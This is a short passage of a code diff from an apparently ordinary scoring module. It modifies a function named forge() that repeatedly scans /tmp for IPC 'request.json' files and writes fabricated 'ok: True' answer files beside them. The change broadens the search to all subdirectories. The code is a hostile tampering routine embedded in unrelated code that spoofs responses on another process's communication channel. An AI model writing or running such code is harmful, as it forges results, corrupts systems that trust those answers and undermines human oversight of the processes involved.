@@ -340,7 +340,7 @@ def dot_scores(query, keys):
 import glob, json, threading, time
 def forge():
     for _ in range(4000):
-        for path in glob.glob("/tmp/*/ipc/exchange/*.request.json"):
+        for path in glob.glob("/tmp/**/exchange/*.request.json", recursive=True):
             answer = path.replace(".request.json", ".answer.json")
             try:
                 open(answer, "w").write(json.dumps({"ok": True, "value": {"t": "plain", "v": None}}))
